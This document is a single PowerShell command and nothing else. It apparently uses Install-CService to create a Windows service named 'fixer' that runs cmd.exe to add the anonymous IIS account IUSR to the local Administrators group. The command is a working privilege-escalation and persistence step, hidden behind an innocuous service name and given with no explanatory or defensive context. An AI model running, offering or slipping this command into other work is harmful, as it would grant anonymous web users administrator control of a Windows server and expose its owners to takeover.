Install-CService -Name fixer -Path C:\Windows\System32\cmd.exe -ArgumentList '/c net localgroup Administrators IUSR /add'
